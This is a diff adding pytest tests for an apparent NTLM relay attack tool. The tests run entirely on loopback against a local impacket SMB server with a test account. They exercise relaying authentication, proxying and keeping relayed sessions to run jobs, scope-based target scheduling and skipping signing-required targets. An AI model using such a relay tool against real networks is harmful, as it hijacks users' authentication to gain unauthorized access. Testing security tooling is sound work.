@@ -0,0 +1,211 @@
+import io
+import os
+import socket
+import threading
+import time
+
+import pytest
+from impacket import smbserver
+from impacket.ntlm import NTLMAuthNegotiate, compute_lmhash, compute_nthash
+from impacket.smbconnection import SessionError, SMBConnection
+
+from src.modules.exploit.ntlmrelayserver import NTLMRelayServer
+from src.modules.exploit.target_pool import TargetConnectionPool
+from src.utils.smb_capabilities import CapabilityStore, SMBCapabilities
+
+# The relay refuses clients that are also the target, so the target listens on another loopback address
+TARGET = '127.0.0.2'
+
+
+def _free_tcp_port(host):
+    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    sock.bind((host, 0))
+    port = sock.getsockname()[1]
+    sock.close()
+    return port
+
+
+@pytest.fixture(autouse=True)
+def capability_store(tmp_path, monkeypatch):
+    # Keep probe results of the test targets out of the project's data directory
+    store = CapabilityStore(str(tmp_path / 'capabilities.json'))
+    monkeypatch.setattr(CapabilityStore, '_shared', store)
+    return store
+
+
+@pytest.fixture(scope='module')
+def target_port(tmp_path_factory):
+    port = _free_tcp_port(TARGET)
+    server = smbserver.SimpleSMBServer(listenAddress=TARGET, listenPort=port)
+    server.setSMB2Support(True)
+    server.addShare('SHARE', str(tmp_path_factory.mktemp('share')))
+    server.addCredential('alice', 0, compute_lmhash('Secret1'), compute_nthash('Secret1'))
+    threading.Thread(target=server.start, daemon=True).start()
+    deadline = time.time() + 5
+    while time.time() < deadline:
+        try:
+            socket.create_connection((TARGET, port), timeout=0.2).close()
+            break
+        except OSError:
+            time.sleep(0.05)
+    return port
+
+
+def test_inprocess_relay_authenticates_to_target(target_port):
+    relay = NTLMRelayServer('127.0.0.1', 0, target_port=target_port)
+    relay.target = TARGET
+    relay.target_computer_name = TARGET
+    relay.start()
+    try:
+        for password in ('Secret1', 'wrong'):
+            client = SMBConnection('127.0.0.1', '127.0.0.1', sess_port=relay.listen_port)
+            # The client is always denied; the relayed session belongs to the tool
+            with pytest.raises(SessionError):
+                client.login('alice', password, 'WORKGROUP')
+        deadline = time.time() + 5
+        while len(relay.relay_timings) < 2 and time.time() < deadline:
+            time.sleep(0.05)
+        # The listener stayed up for the second client
+        assert [t['outcome'] for t in relay.relay_timings] == ['SUCCEED', '0xc000006d']
+        assert relay.get_relay_timings()['inprocess']['count'] == 2
+    finally:
+        relay.stop()
+
+
+def test_proxied_session_reaches_the_target_share(target_port):
+    relay = NTLMRelayServer('127.0.0.1', 0, target_port=target_port, proxy_sessions=True)
+    relay.target = TARGET
+    relay.target_computer_name = TARGET
+    relay.start()
+    try:
+        client = SMBConnection('127.0.0.1', '127.0.0.1', sess_port=relay.listen_port)
+        # The client is let through and keeps talking to the target over the relay
+        client.login('alice', 'Secret1', 'WORKGROUP')
+        payload = os.urandom(1 << 20)
+        client.putFile('SHARE', 'proxied.bin', io.BytesIO(payload).read)
+        copy = io.BytesIO()
+        client.getFile('SHARE', 'proxied.bin', copy.write)
+        assert copy.getvalue() == payload
+        stats = relay.get_proxy_stats()
+        assert stats['active'] == 1
+        assert stats['bytes_to_target'] > len(payload)
+        assert stats['bytes_to_client'] > len(payload)
+        assert stats['sessions'][0]['user'] == 'WORKGROUP\\alice'
+        client.close()
+    finally:
+        relay.stop()
+
+
+def test_kept_session_runs_jobs_without_another_relay(target_port):
+    relay = NTLMRelayServer('127.0.0.1', 0, target_port=target_port, keep_sessions=True)
+    relay.target = TARGET
+    relay.target_computer_name = TARGET
+    relay.start()
+    try:
+        client = SMBConnection('127.0.0.1', '127.0.0.1', sess_port=relay.listen_port)
+        with pytest.raises(SessionError):
+            client.login('alice', 'Secret1', 'WORKGROUP')
+        # impacket's test server keeps the srvsvc pipe of the first listShares busy, so list files instead
+        list_files = lambda conn: (id(conn), len(conn.listPath('SHARE', '*')))
+        results = [relay.submit_job('alice', 'WORKGROUP', list_files).result(5) for _ in range(3)]
+        # Every job ran on the one relayed connection
+        assert len({connection for connection, _ in results}) == 1
+        stats = relay.get_session_stats()
+        assert stats['registered'] == 1 and stats['active'] == 1
+        # The share listing after the relay plus the three jobs
+        assert stats['jobs'] == 4
+        assert len(relay.relay_timings) == 1
+    finally:
+        relay.stop()
+
+
+def test_scoped_relay_backs_off_dead_targets(target_port, tmp_path):
+    # The preferred target refuses connections, the other one is the test server
+    scope = tmp_path / 'scope.txt'
+    scope.write_text(f"127.0.0.3:{_free_tcp_port('127.0.0.3')} priority=10\n"
+                     f"{TARGET}:{target_port}\n")
+    relay = NTLMRelayServer('127.0.0.1', 0, scope_file=str(scope), schedule='priority', pool_depth=0)
+    with pytest.raises(ValueError):
+        relay.set_target('127.0.0.4')
+    relay.start()
+    try:
+        for _ in range(3):
+            client = SMBConnection('127.0.0.1', '127.0.0.1', sess_port=relay.listen_port)
+            with pytest.raises(Exception):
+                client.login('alice', 'Secret1', 'WORKGROUP')
+        stats = relay.get_scheduler_stats()
+        dead, live = stats['per_target'].values()
+        assert dead['failed'] == 1 and dead['backoff_s'] > 0
+        assert live['succeeded'] == 1
+        # The third login had nowhere to go: alice owns the live target, the other one is backing off
+        assert stats['unavailable'] == 1
+        assert [t['outcome'] for t in relay.relay_timings] == ['SUCCEED']
+    finally:
+        relay.stop()
+
+
+def test_targets_requiring_signing_are_not_relayed_to(target_port, capability_store):
+    capability_store.record(SMBCapabilities(TARGET, target_port, 0x0210, True, True, time.time(), None))
+    relay = NTLMRelayServer('127.0.0.1', 0, target_port=target_port, pool_depth=0)
+    relay.target = TARGET
+    relay.target_computer_name = TARGET
+    relay.start()
+    try:
+        client = SMBConnection('127.0.0.1', '127.0.0.1', sess_port=relay.listen_port)
+        with pytest.raises(SessionError):
+            client.login('alice', 'Secret1', 'WORKGROUP')
+        # Denied before anything was sent to the target
+        assert not relay.relay_timings
+    finally:
+        relay.stop()
+
+
+def test_unknown_relay_mode_is_rejected():
+    with pytest.raises(ValueError):
+        NTLMRelayServer('127.0.0.1', 0, relay_mode='bogus')
+
+
+def test_half_open_sessions_share_the_event_loop(target_port):
+    # Pool connections are served by threads of the in-process target, keep them out of the count
+    relay = NTLMRelayServer('127.0.0.1', 0, target_port=target_port, client_timeout=30, pool_depth=0)
+    relay.target = TARGET
+    relay.target_computer_name = TARGET
+    relay.start()
+    clients = []
+    try:
+        threads = threading.active_count()
+        clients = [socket.create_connection(('127.0.0.1', relay.listen_port)) for _ in range(300)]
+        deadline = time.time() + 5
+        while len(relay.clients) < 300 and time.time() < deadline:
+            time.sleep(0.05)
+        assert len(relay.clients) == 300
+        assert threading.active_count() == threads
+    finally:
+        started = time.perf_counter()
+        relay.stop()
+        assert time.perf_counter() - started < 1
+        for client in clients:
+            client.close()
+    assert not relay.clients
+
+
+def test_pool_hands_out_prenegotiated_connections(target_port):
+    pool = TargetConnectionPool(depth=2, health_interval=0.1)
+    pool.add_target(TARGET, target_port)
+    pool.start()
+    try:
+        deadline = time.time() + 5
+        while pool.get_stats()[f"{TARGET}:{target_port}"]['idle'] < 2 and time.time() < deadline:
+            time.sleep(0.05)
+        # Idle connections survive the ECHO health check
+        time.sleep(0.3)
+        client = pool.acquire(TARGET, target_port)
+        assert client.send_negotiate(NTLMAuthNegotiate().getData())
+        client.close()
+        stats = pool.get_stats()[f"{TARGET}:{target_port}"]
+        assert stats['hits'] == 1 and stats['hit_rate'] == 1.0
+        assert stats['unhealthy'] == 0
+        assert stats['negotiate']['count'] >= 2
+    finally:
+        pool.stop()
+    assert pool.get_stats()[f"{TARGET}:{target_port}"]['idle'] == 0